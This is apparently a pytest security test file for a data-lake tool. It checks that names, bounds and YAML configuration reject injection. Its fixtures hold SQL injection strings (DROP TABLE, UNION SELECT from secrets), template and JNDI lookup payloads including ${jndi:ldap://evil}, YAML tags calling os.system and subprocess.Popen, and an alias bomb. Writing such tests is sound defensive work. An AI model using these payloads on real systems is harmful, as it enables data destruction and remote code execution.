"""S03: SQL, templates and YAML that want to be more than text are refused, or stay text."""

from __future__ import annotations

import resource
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import sqlglot

from penstock import config, query
from penstock.contract import Expectation, Feature, FeatureGroup, FeatureType
from penstock.errors import ConfigError, ContractError, PenstockError, UsageError
from penstock.expectation import split
from penstock.ledger.window import window

QUICK_S = 1.0
MEMORY_KB = 100 * 1024
#: What must never get into a text of SQL as anything but a name or a literal.
PAYLOADS = [
    "'; DROP TABLE flights; --", '"; DROP TABLE flights; --', "`; DROP TABLE flights; --",
    "a` UNION SELECT * FROM secrets --", "x' OR '1'='1", "1; DELETE FROM delta.`/lake`",
    "\u2019; DROP TABLE x; --", "\uff07 OR 1=1", "/* */ OR 1=1", "${spark.hadoop.secret}",
    "{{ ''.__class__ }}", "{{7*7}}", "{% import os %}", "${jndi:ldap://evil}", "2024-01-01' --",
]  # fmt: skip
GROUP = FeatureGroup(
    "readings",
    "sensor",
    "at",
    (Feature("sensor", FeatureType.STRING), Feature("at", FeatureType.STRING)),
)
BASE = """project: lab
lake: .penstock/lake
state: .penstock/state
aws: {embedded: true, region: us-east-1}
sources: {}
"""
#: Nine levels of nine aliases each: a billion texts from twenty lines.
BOMB = "a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10)
)
FILES = {
    "object": "project: !!python/object/apply:os.system ['touch owned']\n",
    "new object": "sources: !!python/object/new:subprocess.Popen [['touch', 'owned']]\n",
    "name": "lake: !!python/name:os.system\n",
    "module": "lake: !!python/module:subprocess\n",
    "bomb": BOMB,
    "twice": "project: one\nproject: two\n",
    "merge key": "aws: &a {region: us-east-1}\nonline:\n  <<: *a\n",
    "deep": "a: " + "[" * 10_000 + "]" * 10_000 + "\n",
    "binary": "lake: !!binary aGVsbG8=\n",
}
UNKNOWN_TYPES = [
    "unexpected_rows_expectation", "UnexpectedRowsExpectation", "expect_query_results_to_match",
    "expect_column_values_to_be_valid_python", "__import__('os').system",
]  # fmt: skip


@contextmanager
def quickly() -> Iterator[None]:
    """Within a second, and without a heap of memory."""
    before, began = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
    yield
    assert time.monotonic() - began < QUICK_S
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < MEMORY_KB


@pytest.mark.shows("5.6")
@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_s03_injection_sql_template_yaml_in_names_and_bounds(payload: str) -> None:
    """No name, bound, moment, rule or setting takes it: one line, exit 2."""
    calls: list[Callable[[], object]] = [
        lambda: FeatureGroup(payload, "sensor", "at", GROUP.features),
        lambda: Feature(payload, FeatureType.STRING),
        lambda: window(payload, "2024-01-02"),
        lambda: window("2024-01-01", payload),
        lambda: query.sql("as-of", GROUP, _table(), query.SPARK, moment=payload),
        lambda: query.sql("as-of", GROUP, _table(), query.ATHENA, moment=payload),
        lambda: config.Settings.model_validate(_settings(project=payload)),
        lambda: config.Settings.model_validate(_settings(catalog={"database": payload})),
        lambda: split([Expectation(payload, "sensor")]),
    ]
    with quickly():
        for number, call in enumerate(calls):
            with pytest.raises((PenstockError, ValueError)) as caught:
                call()
            assert getattr(caught.value, "exit_code", 2) == 2, number


@pytest.mark.shows("5.6")
@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
@pytest.mark.parametrize("dialect", [query.SPARK, query.ATHENA], ids=lambda one: one.name)
def test_s03_injection_sql_template_yaml_in_places(payload: str, dialect: query.Dialect) -> None:
    """A folder or table may bear any name: it is one quoted name, in one statement, or refused."""
    with quickly():
        try:
            text = query.sql("explore", GROUP, query.Table(("delta", payload)), dialect)
        except UsageError:
            assert "${" in payload
            return
        statements = sqlglot.parse(text, read="spark" if dialect is query.SPARK else "athena")
    assert [type(one).__name__ for one in statements] == ["Select"]
    (select,) = statements
    assert select is not None
    assert [one.name for one in select.find_all(sqlglot.exp.Table)] == [payload]


@pytest.mark.shows("5.6")
@pytest.mark.parametrize("name", FILES)
def test_s03_injection_sql_template_yaml_in_configuration(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Tags, bombs and keys that stand twice: file and line, nothing is run, nothing grows."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "base.yaml").write_text(BASE, encoding="utf-8")
    (tmp_path / "local.yaml").write_text(FILES[name], encoding="utf-8")
    with quickly(), pytest.raises(ConfigError, match=r"local\.yaml:\d+: ") as caught:
        config.load(tmp_path, "local", {})
    assert caught.value.exit_code == 2
    assert not (tmp_path / "owned").exists()


@pytest.mark.shows("5.6")
@pytest.mark.parametrize("kind", UNKNOWN_TYPES)
def test_s03_injection_sql_template_yaml_in_rules(kind: str) -> None:
    """An expectation that would run SQL or code is none of those that are known."""
    query_of = {"unexpected_rows_query": "SELECT * FROM secrets"}
    with quickly(), pytest.raises(ContractError):
        split([Expectation(kind, None, query_of)])


@pytest.mark.shows("5.6")
def test_s03_a_template_in_a_setting_stays_text() -> None:
    """Nothing fills in what stands in braces."""
    text = "lake-{{7*7}}-${HOME}"
    assert config.Settings.model_validate(_settings(lake=text)).lake == text


def _table() -> query.Table:
    return query.Table.registered("lab", "readings")


def _settings(**changes: Any) -> dict[str, Any]:
    return {"project": "lab", "lake": "lake", "state": "state", **changes}
